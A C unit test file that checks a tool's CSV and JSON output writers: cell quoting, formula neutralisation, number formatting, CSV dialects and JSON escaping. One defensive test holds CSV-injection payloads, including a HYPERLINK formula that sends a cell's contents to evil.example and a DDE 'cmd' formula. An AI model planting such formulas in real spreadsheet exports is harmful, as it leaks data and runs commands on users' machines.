/* The writers of the machine outputs (textout.h): CSV cells, formula neutralisation, number
 * formatting and the streaming JSON writer, whose output is parsed back with jansson; and the
 * JSON report's integer fields. */
#include "nextlevel/evaluate.h"
#include "nextlevel/framework.h"
#include "nextlevel/matrix.h"
#include "nextlevel/report_machine.h"
#include "nextlevel/textout.h"

#include "test_support.h"

#include <criterion/criterion.h>
#include <jansson.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* Output captured in memory. */
typedef struct capture {
    char *data;
    size_t len;
    FILE *out;
} capture;

static void capture_open(capture *c)
{
    c->data = NULL;
    c->len = 0;
    c->out = open_memstream(&c->data, &c->len);
    cr_assert_not_null(c->out);
}

/* Closes the stream; c->data then holds the text (free it). */
static char *capture_close(capture *c)
{
    cr_assert_eq(fclose(c->out), 0);
    c->out = NULL;
    return c->data;
}

/* What nl_csv_text writes for text. */
static char *csv_cell(const char *text)
{
    capture c;
    capture_open(&c);
    nl_csv_text(c.out, text);
    return capture_close(&c);
}

static void expect_cell(const char *text, const char *want)
{
    char *got = csv_cell(text);
    cr_assert_str_eq(got, want, "cell for [%s]: [%s], expected [%s]", text, got, want);
    free(got);
}

/* ---- CSV cells ---- */

Test(csv_text, formula_payloads_get_a_leading_apostrophe)
{
    /* OWASP CSV injection examples: a leading = + - @ tab or CR. The apostrophe makes a
     * spreadsheet show the text instead of running it; the cell is quoted so that the
     * apostrophe stays part of it. Inner quotes are doubled. */
    expect_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
    expect_cell("+1+1", "\"'+1+1\"");
    expect_cell("-2+3", "\"'-2+3\"");
    expect_cell("@SUM(A1)", "\"'@SUM(A1)\"");
    expect_cell("=1+2;cmd|' /C calc'!A0", "\"'=1+2;cmd|' /C calc'!A0\"");
    expect_cell("\tcmd", "\"'\tcmd\"");
    expect_cell("\rcmd", "\"'\rcmd\"");
    expect_cell("-", "\"'-\"");
}

Test(csv_text, only_a_leading_character_is_dangerous)
{
    expect_cell("a=b", "a=b");
    expect_cell("E1105", "E1105");
    expect_cell("Ready now", "Ready now");
    expect_cell("O'Neill", "O'Neill");
    expect_cell("Ana-Maria", "Ana-Maria");
}

Test(csv_text, quotes_delimiters_quotes_and_line_breaks)
{
    expect_cell("", "");
    expect_cell("a,b", "\"a,b\"");
    expect_cell("Siobhán \"Shiv\" O'Neill", "\"Siobhán \"\"Shiv\"\" O'Neill\"");
    expect_cell("\"", "\"\"\"\"");
    expect_cell("Ana\nMaria", "\"Ana\nMaria\"");
    expect_cell("Ana\r\nMaria", "\"Ana\r\nMaria\"");
    /* Spaces at either end would be trimmed by some readers: quoted to keep them. */
    expect_cell(" lead", "\" lead\"");
    expect_cell("trail ", "\"trail \"");
}

Test(csv_text, a_neutralised_cell_reads_back_as_apostrophe_and_text)
{
    /* Read the cell back the way a CSV reader does (strip the quotes, undouble): the
     * apostrophe, then the original text unchanged. */
    const char *text = "=\"a\",b";
    char *cell = csv_cell(text);
    size_t n = strlen(cell);
    cr_assert(n >= 2 && cell[0] == '"' && cell[n - 1] == '"');
    char back[64];
    size_t k = 0;
    for (size_t i = 1; i + 1 < n; i++) {
        if (cell[i] == '"')
            i++; /* a doubled quote stands for one */
        back[k++] = cell[i];
    }
    back[k] = '\0';
    cr_assert_str_eq(back, "'=\"a\",b");
    free(cell);
}

/* ---- numbers ---- */

static void expect_number(double value, const char *want)
{
    char buf[32];
    memset(buf, 'x', sizeof buf);
    nl_format_number(value, buf);
    cr_assert_str_eq(buf, want, "%.17g formatted as [%s], expected [%s]", value, buf, want);
}

Test(numbers, six_significant_digits_no_minus_zero_empty_for_none)
{
    expect_number(85, "85");
    expect_number(0.5, "0.5");
    expect_number(84.2222222222, "84.2222");
    expect_number(100.0 / 3, "33.3333");
    expect_number(0.548611111, "0.548611");
    expect_number(0.1 + 0.2, "0.3");   /* 0.30000000000000004 */
    expect_number(0.95 - 0.8, "0.15"); /* 0.1499999999999999 */
    expect_number(1234567, "1.23457e+06");
    expect_number(-0.25, "-0.25");
    expect_number(-0.0, "0");
    expect_number(-1e-300 * 1e-300, "0"); /* underflows to -0 */
    expect_number(NAN, "");
    expect_number(INFINITY, "");
    expect_number(-INFINITY, "");
}

Test(numbers, csv_number_cells)
{
    capture c;
    capture_open(&c);
    nl_csv_number(c.out, 3.5);
    fputc(',', c.out);
    nl_csv_number(c.out, NAN);
    fputc(',', c.out);
    nl_csv_number(c.out, -0.0);
    fputc(',', c.out);
    nl_csv_number(c.out, -2); /* a number of ours is never neutralised */
    char *text = capture_close(&c);
    cr_assert_str_eq(text, "3.5,,0,-2");
    free(text);
}

/* ---- the CSV dialects ---- */

/* One header row and one row of every kind of cell, in a dialect. */
static char *dialect_rows(nl_csv_dialect dialect)
{
    capture c;
    capture_open(&c);
    nl_csv_writer w;
    nl_csv_writer_start(&w, c.out, dialect);
    nl_csv_cells(&w, "id,name,score,count,flag,empty");
    nl_csv_row_end(&w);
    nl_csv_cell_text(&w, "=1+2;3");
    nl_csv_cell_text(&w, "Müller; Jürgen, Dr.");
    nl_csv_cell_number(&w, -0.15);
    nl_csv_cell_integer(&w, 1234567);
    nl_csv_cells(&w, "yes");
    nl_csv_cell_empty(&w);
    nl_csv_row_end(&w);
    nl_csv_cell_number(&w, 1234567.0); /* 1.23457e+06 */
    nl_csv_cell_number(&w, NAN);
    nl_csv_cell_text(&w, "3,5");
    nl_csv_cell_text(&w, "Ana\nMaria");
    nl_csv_row_end(&w);
    return capture_close(&c);
}

Test(csv_dialects, plain_is_what_the_cell_writers_write)
{
    char *text = dialect_rows(NL_DIALECT_PLAIN);
    cr_assert_str_eq(text, "id,name,score,count,flag,empty\n"
                           "\"'=1+2;3\",\"Müller; Jürgen, Dr.\",-0.15,1234567,yes,\n"
                           "1.23457e+06,,\"3,5\",\"Ana\nMaria\"\n");
    free(text);
}

Test(csv_dialects, excel_adds_the_byte_order_mark_and_crlf)
{
    char *text = dialect_rows(NL_DIALECT_EXCEL);
    cr_assert_str_eq(text, "\xEF\xBB\xBFid,name,score,count,flag,empty\r\n"
                           "\"'=1+2;3\",\"Müller; Jürgen, Dr.\",-0.15,1234567,yes,\r\n"
                           "1.23457e+06,,\"3,5\",\"Ana\nMaria\"\r\n");
    free(text);
}

/* ';' between cells, the decimal comma in numbers only, texts holding ';' or ',' quoted, the
 * formula still neutralised, a line break inside a cell left as it is. */
Test(csv_dialects, excel_eu_uses_semicolons_and_the_decimal_comma)
{
    char *text = dialect_rows(NL_DIALECT_EXCEL_EU);
    cr_assert_str_eq(text, "\xEF\xBB\xBFid;name;score;count;flag;empty\r\n"
                           "\"'=1+2;3\";\"Müller; Jürgen, Dr.\";-0,15;1234567;yes;\r\n"
                           "1,23457e+06;;\"3,5\";\"Ana\nMaria\"\r\n");
    free(text);
}

Test(csv_dialects, names)
{
    const char *names[] = {"plain", "excel", "excel-eu"};
    for (int d = 0; d < 3; d++) {
        nl_csv_dialect dialect;
        cr_assert(nl_csv_dialect_parse(names[d], &dialect));
        cr_assert_eq((int)dialect, d);
        cr_assert_str_eq(nl_csv_dialect_name(dialect), names[d]);
    }
    nl_csv_dialect dialect = NL_DIALECT_EXCEL;
    cr_assert(!nl_csv_dialect_parse("Excel", &dialect));
    cr_assert(!nl_csv_dialect_parse("excel-us", &dialect));
    cr_assert(!nl_csv_dialect_parse("", &dialect));
    cr_assert_eq(dialect, NL_DIALECT_EXCEL);
}

/* ---- the JSON writer ---- */

static json_t *parse(const char *text)
{
    json_error_t error;
    json_t *root = json_loads(text, 0, &error);
    cr_assert_not_null(root, "invalid JSON at line %d column %d: %s\n%s", error.line, error.column,
                       error.text, text);
    return root;
}

Test(json, strings_are_escaped_and_the_document_parses)
{
    static const char nasty[] = "quote \" backslash \\ slash / newline \n return \r tab \t "
                                "bell \a escape \x1b unit \x1f del \x7f é ✓";
    capture c;
    capture_open(&c);
    nl_json j;
    nl_json_init(&j, c.out);
    nl_json_open(&j, NULL, '{');
    nl_json_string(&j, "text", nasty);
    nl_json_string(&j, "key \"with\" quotes\n", "v");
    nl_json_string(&j, "null string", NULL);
    nl_json_number(&j, "number", 84.2222222);
    nl_json_number(&j, "nan", NAN);
    nl_json_number(&j, "minus zero", -0.0);
    nl_json_integer(&j, "big", 1234567890123LL);
    nl_json_bool(&j, "yes", true);
    nl_json_bool(&j, "no", false);
    nl_json_null(&j, "nothing");
    nl_json_open(&j, "empty array", '[');
    nl_json_close(&j, ']');
    nl_json_open(&j, "empty object", '{');
    nl_json_close(&j, '}');
    nl_json_open(&j, "list", '[');
    nl_json_number(&j, NULL, 1);
    nl_json_string(&j, NULL, "two");
    nl_json_open(&j, NULL, '{');
    nl_json_number(&j, "three", 3);
    nl_json_close(&j, '}');
    nl_json_close(&j, ']');
    nl_json_close(&j, '}');
    char *text = capture_close(&c);

    /* Control characters never appear raw inside the document. */
    for (const char *p = text; *p; p++)
        cr_assert(*p == '\n' || (unsigned char)*p >= 0x20, "raw control byte 0x%02x", *p);
    cr_assert(nl_test_contains(text, "\\u001b"), "%s", text);
    cr_assert(nl_test_contains(text, "\\u0007"), "%s", text);
    cr_assert(nl_test_contains(text, "\\u001f"), "%s", text);
    cr_assert_eq(text[strlen(text) - 1], '\n');

    json_t *root = parse(text);
    cr_assert_str_eq(json_string_value(json_object_get(root, "text")), nasty);
    cr_assert_str_eq(json_string_value(json_object_get(root, "key \"with\" quotes\n")), "v");
    cr_assert_str_eq(json_string_value(json_object_get(root, "null string")), "");
    cr_assert_float_eq(json_number_value(json_object_get(root, "number")), 84.2222, 1e-9);
    cr_assert(json_is_null(json_object_get(root, "nan")));
    cr_assert(json_is_integer(json_object_get(root, "minus zero")));
    cr_assert_eq(json_integer_value(json_object_get(root, "minus zero")), 0);
    cr_assert(json_is_true(json_object_get(root, "yes")));
    cr_assert(json_is_false(json_object_get(root, "no")));
    cr_assert(json_is_null(json_object_get(root, "nothing")));
    cr_assert_eq(json_array_size(json_object_get(root, "empty array")), 0);
    cr_assert_eq(json_object_size(json_object_get(root, "empty object")), 0);
    json_t *list = json_object_get(root, "list");
    cr_assert_eq(json_array_size(list), 3);
    cr_assert_eq(json_integer_value(json_array_get(list, 0)), 1);
    cr_assert_str_eq(json_string_value(json_array_get(list, 1)), "two");
    cr_assert_eq(json_integer_value(json_object_get(json_array_get(list, 2), "three")), 3);
    cr_assert_eq(json_integer_value(json_object_get(root, "big")), 1234567890123LL);
    cr_assert_eq(json_object_size(root), 13);
    json_decref(root);
    free(text);
}

Test(json, an_empty_document_and_deep_nesting)
{
    capture c;
    capture_open(&c);
    nl_json j;
    nl_json_init(&j, c.out);
    nl_json_open(&j, NULL, '[');
    for (int i = 0; i < 40; i++)
        nl_json_open(&j, NULL, '[');
    nl_json_number(&j, NULL, 7);
    for (int i = 0; i < 40; i++)
        nl_json_close(&j, ']');
    nl_json_number(&j, NULL, 8);
    nl_json_close(&j, ']');
    char *text = capture_close(&c);
    json_t *root = parse(text);
    cr_assert_eq(json_array_size(root), 2);
    json_t *inner = json_array_get(root, 0);
    for (int i = 0; i < 39; i++)
        inner = json_array_get(inner, 0);
    cr_assert_eq(json_integer_value(json_array_get(inner, 0)), 7);
    cr_assert_eq(json_integer_value(json_array_get(root, 1)), 8);
    json_decref(root);
    free(text);
}

/* ---- the JSON report's whole numbers ---- */

Test(json_report, line_numbers_beyond_a_million_are_exact)
{
    /* A long-format export of a large company passes a million lines. Line numbers are whole
     * numbers, not measurements: 6 significant digits would print 1000003 as 1e+06. The first
     * person's name holds a million line breaks (a quoted cell), so the second person starts
     * on line 1000003 and the bad row after it on line 1000004. */
    const char header[] = "id,name,level,coding\n";
    size_t breaks = 1000000;
    size_t cap = sizeof header + breaks + 128, len = 0;
    char *csv = malloc(cap);
    cr_assert_not_null(csv);
    len += (size_t)snprintf(csv, cap, "%s", header);
    len += (size_t)snprintf(csv + len, cap - len, "P1,\"A");
    memset(csv + len, '\n', breaks);
    len += breaks;
    len += (size_t)snprintf(csv + len, cap - len, "B\",L1,3\nP2,Bob,L1,3\nP3,Bad,L9,3\n");
    char *csv_path = nl_test_write_temp(".csv", csv, len);
    free(csv);
    static const char ini[] = "[framework]\nname = T\nscale = 1..5\n"
                              "[skill coding]\nname = Coding\nfamily = technical\n"
                              "[level L1]\ntitle = One\nnext = L2\nexpectations = coding:2\n"
                              "[level L2]\ntitle = Two\nexpectations = coding:3\n"
                              "[priorities p]\ntechnical = 1\n";
    char *ini_path = nl_test_write_temp(".ini", ini, strlen(ini));
    nl_framework *fw = NULL;
    nl_error err = {0};
    cr_assert_eq(nl_framework_load(ini_path, &fw, &err), NL_OK, "%s", err.message);
    nl_matrix *m = nl_matrix_new(fw);
    cr_assert_eq(nl_matrix_read_file(m, csv_path, 0, &err), NL_OK, "%s", err.message);
    nl_evaluator *ev = NULL;
    cr_assert_eq(nl_evaluator_new(fw, NULL, NULL, &ev, &err), NL_OK);
    capture c;
    capture_open(&c);
    nl_review *rv = NULL;
    cr_assert_eq(nl_review_build(&(nl_review_inputs){.ev = ev, .m = m}, &rv, &err), NL_OK);
    cr_assert_eq(nl_write_results_json(c.out, rv, &(nl_machine_options){0}), NL_OK);
    nl_review_free(rv);
    char *text = capture_close(&c);
    json_t *root = parse(text);
    json_t *people = json_object_get(root, "people");
    cr_assert_eq(json_array_size(people), 2);
    json_t *line = json_object_get(json_object_get(json_array_get(people, 1), "source"), "line");
    cr_assert(json_is_integer(line), "line written as %s", json_is_real(line) ? "a real" : "?");
    cr_assert_eq(json_integer_value(line), 1000003);
    json_t *rejected = json_array_get(json_object_get(root, "rejected"), 0);
    cr_assert_eq(json_integer_value(json_object_get(rejected, "line")), 1000004);
    cr_assert_eq(json_integer_value(json_object_get(rejected, "column")), 3);
    json_decref(root);
    free(text);
    nl_evaluator_free(ev);
    nl_matrix_free(m);
    nl_framework_free(fw);
    nl_test_remove(ini_path);
    nl_test_remove(csv_path);
}
